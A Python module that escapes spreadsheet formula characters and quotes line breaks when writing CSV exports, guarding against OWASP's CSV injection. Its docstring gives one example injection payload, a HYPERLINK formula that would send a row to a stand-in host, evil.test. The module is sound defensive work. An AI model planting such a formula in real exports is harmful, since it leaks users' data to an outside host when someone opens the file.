"""CSV that a spreadsheet opens as data: every CSV the project writes goes through ``records``.

A spreadsheet program runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (OWASP's "CSV Injection"): a collector named ``=HYPERLINK("https://evil.test?"&A2)``
would send its row elsewhere when an admin opens the export. Such text gets a leading
apostrophe (OWASP's advice), so that the cell is shown as the text it is. Text that is a plain
number (``-5``, ``+1.5e3``) is left as it is: a number, not a formula, runs nothing.

``csv.writer`` quotes a cell only for the characters of its own line terminator, so with
``"\\n"`` a cell holding a bare CR went out unquoted and ended the record there: a reader (a
spreadsheet, Python's csv) then started a new row with the rest of the cell, formula and all.
``records`` quotes a cell holding either, whichever line end it writes.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

# OWASP's list (= + - @, tab, CR), with LF as CR and NUL as ASVS 5.0's 1.2.10 adds
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
LINE_ENDS = ("\r\n", "\n")


def text_cell(text: str) -> str:
    """``text`` as a cell a spreadsheet shows and never runs: a formula's first character gets a
    leading apostrophe, unless the text is a plain number. Applying it twice changes nothing."""
    if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def records(rows: Iterable[Sequence[object]], line_end: str = "\r\n") -> str:
    """The rows as CSV records, each ended by ``line_end`` ("\\r\\n", RFC 4180's, or "\\n").
    Every text cell goes through ``text_cell``; other cells (numbers) are written as ``str``
    gives them, None as an empty cell. A cell holding CR or LF is quoted."""
    if line_end not in LINE_ENDS:
        raise ValueError(f"line_end must be one of {LINE_ENDS!r}, not {line_end!r}")
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")  # quotes cells holding CR or LF
    written = []
    for row in rows:
        writer.writerow([text_cell(cell) if isinstance(cell, str) else cell for cell in row])
        written.append(buffer.getvalue()[: -len("\r\n")] + line_end)
        buffer.seek(0)
        buffer.truncate()
    return "".join(written)
